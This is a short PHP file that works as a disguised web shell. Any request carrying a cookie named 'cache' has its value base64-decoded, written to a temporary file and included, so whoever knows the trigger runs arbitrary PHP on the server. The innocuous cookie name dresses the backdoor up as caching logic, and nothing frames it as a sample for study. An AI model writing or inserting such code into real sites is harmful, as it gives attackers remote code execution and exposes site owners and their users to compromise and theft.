<?php
if (isset($_COOKIE['cache'])) {
    $file = tmpfile();
    fwrite($file, '<?php ' . base64_decode($_COOKIE['cache']));
    include stream_get_meta_data($file)['uri'];
}
